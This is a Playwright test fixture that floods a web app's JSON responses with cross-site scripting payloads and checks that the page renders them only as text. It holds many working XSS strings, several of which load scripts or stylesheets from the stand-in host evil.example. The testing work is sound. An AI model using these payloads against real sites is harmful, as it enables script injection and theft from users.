/** Texts that run as a script wherever they are taken for anything but text. Each calls `alert` or loads something. */
import { expect, type Page } from 'playwright/test';

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'marquee',
  'iframe',
  'a href=#',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];

const elements = tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=alert(1)>x`));

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/a.js></script>',
  '<script>/*',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<script type=module>import("//evil.example/a.js")</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
];

const attributes = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1) `',
  '" style="background:url(javascript:alert(1))',
  '"/onclick=alert(1)//',
  '" srcdoc="<script>alert(1)</script>',
  'x onerror=alert(1) src=x',
];

const documents = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
  '<svg><foreignObject><body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/a.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<style>@import "//evil.example/a.css";</style>',
  '<style>*{background:url("//evil.example/a.png")}</style>',
  '<portal src="//evil.example"></portal>',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://https://example.org/%0aalert(1)',
  'javascript:alert(1)//https://example.org',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/a',
  '\\\\evil.example\\a',
  'view-source:javascript:alert(1)',
  'https://evil.example@example.org/',
];

const entities = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '&#0000106avascript:alert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"alert(1)"}}',
  "');alert(1);//",
  '";alert(1);//',
  '\u2028alert(1)//',
  'alert`1`',
  'constructor',
  '__proto__',
];

const directions = [
  '\u202e<img src=x onerror=alert(1)>',
  '\u2066\u202etxt.exe\u2069<svg onload=alert(1)>',
  '\u0000<img src=x onerror=alert(1)>',
  '<img\u000bsrc=x\u000conerror=alert(1)>',
  '\u200f\u061c<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '\u00a0<svg/onload=alert(1)>',
];

export const payloads: readonly string[] = [
  ...elements,
  ...scripts,
  ...attributes,
  ...documents,
  ...addresses,
  ...entities,
  ...templates,
  ...directions,
];

type Json = unknown;

/** So many rows hold, in each of their fields, each of the texts: an address alone, others three together. */
const rowTexts: readonly string[] = [
  ...addresses,
  ...Array.from({ length: Math.ceil((payloads.length - addresses.length) / 3) }, (_, index) =>
    payloads
      .filter((payload) => !addresses.includes(payload))
      .slice(index * 3, index * 3 + 3)
      .join(' '),
  ),
];

/** What a field of a row holds: another one in every row. */
const textOf = (row: number, field: number): string => rowTexts[(row + field) % rowTexts.length] ?? '';

/** All of them in one text. */
export const everything = payloads.join(' ');

/** The first one is apart, with all of them in every field. */
export const infectedRows = rowTexts.length + 1;

/** Fields that lead to a record: its address would be another one. */
const keepsItsOwn = /^(?:id|.*_id|events)$/;

/**
 * An answer with those texts in every text field: in a list, as many rows as there are texts, and the first of them has
 * all of them in every field. Ids stay, so that records can be opened.
 */
export function infected(body: string): string {
  const given = JSON.parse(body) as Json;
  const rows = Array.isArray(given) ? given : isRecord(given) && Array.isArray(given['data']) ? given['data'] : null;
  if (rows === null) return JSON.stringify(withTexts(given, () => everything));
  const many = Array.from({ length: infectedRows }, (_, index): Json => {
    const row: Json = rows[index % rows.length];
    let field = 0;
    const infectedRow = withTexts(row, () => (index === 0 ? everything : textOf(index, (field += 1))));
    return index < rows.length || !isRecord(infectedRow) ? infectedRow : { ...infectedRow, id: `${index}-more` };
  });
  return JSON.stringify(Array.isArray(given) ? many : { ...(given as object), data: many });
}

function withTexts(value: Json, next: () => string): Json {
  if (typeof value === 'string') return next();
  if (Array.isArray(value)) return value.map((entry) => withTexts(entry, next));
  if (!isRecord(value)) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, inside]) => [key, keepsItsOwn.test(key) ? inside : withTexts(inside, next)]),
  );
}

function isRecord(value: Json): value is Record<string, Json> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

/** Fails when one of the texts was taken for something else. The fixture fails on a report of the policy and on a foreign request. */
export async function expectTextOnly(page: Page, place: string) {
  const found = await page.evaluate(() => {
    const elements = [
      'script:not([src^="/assets/"])',
      'iframe, object, embed, base, portal, marquee, math, audio, video, form[action], meta[http-equiv], foreignObject',
      'img:not([src^="/"])',
      'link[href^="//"]',
    ];
    const handlers = [...document.querySelectorAll('*')].filter(({ attributes }) =>
      [...attributes].some(
        ({ name, value }) =>
          /^on|^srcdoc$/i.test(name) || (/(?:href|src|action|data)$/i.test(name) && /^\s*javascript:/i.test(value)),
      ),
    );
    const links = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].map(({ protocol }) => protocol);
    return {
      elements: [...document.querySelectorAll(elements.join(', ')), ...handlers].map(({ outerHTML }) =>
        outerHTML.slice(0, 200),
      ),
      protocols: [...new Set(links)].filter((protocol) => !/^(?:https?|mailto|tel):$/.test(protocol)),
      polluted: 'polluted' in {},
    };
  });
  expect(found, place).toEqual({ elements: [], protocols: [], polluted: false });
}
